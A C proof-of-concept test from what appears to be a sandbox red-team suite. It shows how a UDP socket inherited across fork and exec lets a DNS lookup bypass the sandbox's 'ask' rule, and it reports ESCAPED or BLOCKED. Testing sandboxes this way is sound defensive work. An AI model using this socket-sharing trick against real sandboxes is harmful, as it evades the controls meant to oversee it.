/* dns_owner.c: a lookup a table asks about, resolved unasked because another process of
 * another table holds the same socket (issue 11, red team 39; class 7, host names).
 *
 * An `ask` rule on a host asks at the lookup, about "the process that sent the query", found
 * by its socket: the first traced process holding it.  And the rule then asked was that
 * process's table's -- not the table that asked.  A socket two processes hold (inherited)
 * is held first by the older one.  So the program makes a UDP socket and connects it to the
 * name server (redirected to systrace's resolver, under its own table), forks, and execs
 * into a program with a table of its own that says nothing about names (here sleep), the
 * socket kept open; the child -- still the program, under the table that asks -- sends its
 * query on the shared socket: the "owner" was the sleep, whose table has no rule on the
 * name, and the query was resolved, nobody asked.
 *
 *   dns_owner NAME SLEEP   as above; the child asks for NAME once SLEEP runs in the parent:
 *                          ESCAPED when it is answered, BLOCKED when not
 */
#include "attack.h"
#include "dns_query.h"

int main(int argc, char **argv) {
    struct sockaddr_in server;
    if (argc != 3)
        usage("dns_owner NAME SLEEP");
    if (nameserver(&server) < 0)
        skipped("no nameserver in /etc/resolv.conf");
    int s = socket(AF_INET, SOCK_DGRAM, 0); /* inherited across the exec */
    if (connect(s, (struct sockaddr *)&server, sizeof server) != 0)
        blocked("connect: %s", ename(errno));
    pid_t parent = getpid();
    pid_t pid = fork();
    if (pid > 0) {
        execl(argv[2], argv[2], "4", (char *)NULL);
        _exit(1);
    }
    /* the child: wait until the parent runs SLEEP */
    char link[64], exe[4096];
    snprintf(link, sizeof link, "/proc/%d/exe", (int)parent);
    for (int i = 0; i < 400; i++) {
        ssize_t n = readlink(link, exe, sizeof exe - 1);
        if (n > 0) {
            exe[n] = 0;
            if (strcmp(exe, argv[2]) == 0)
                break;
        }
        usleep(10000);
    }
    note("the parent runs %s", exe);
    unsigned char q[512], r[512];
    size_t n = question(q, 0x3939, 0x0100, 0, argv[1]);
    struct timeval tv = {10, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    ssize_t got = send(s, q, n, 0) == (ssize_t)n ? recv(s, r, sizeof r, 0) : -1;
    if (got < 12)
        blocked("%s: no answer (%s)", argv[1], got < 0 ? ename(errno) : "short");
    int rcode = r[3] & 0x0f, answers = (r[6] << 8) | r[7];
    if (rcode == 0 && answers > 0) {
        char out[64];
        inet_ntop(AF_INET, r + got - 4, out, sizeof out);
        escaped("%s was answered on the shared socket, nobody asked: %s", argv[1], out);
    }
    blocked("%s: rcode %d, %d answers", argv[1], rcode, answers);
}
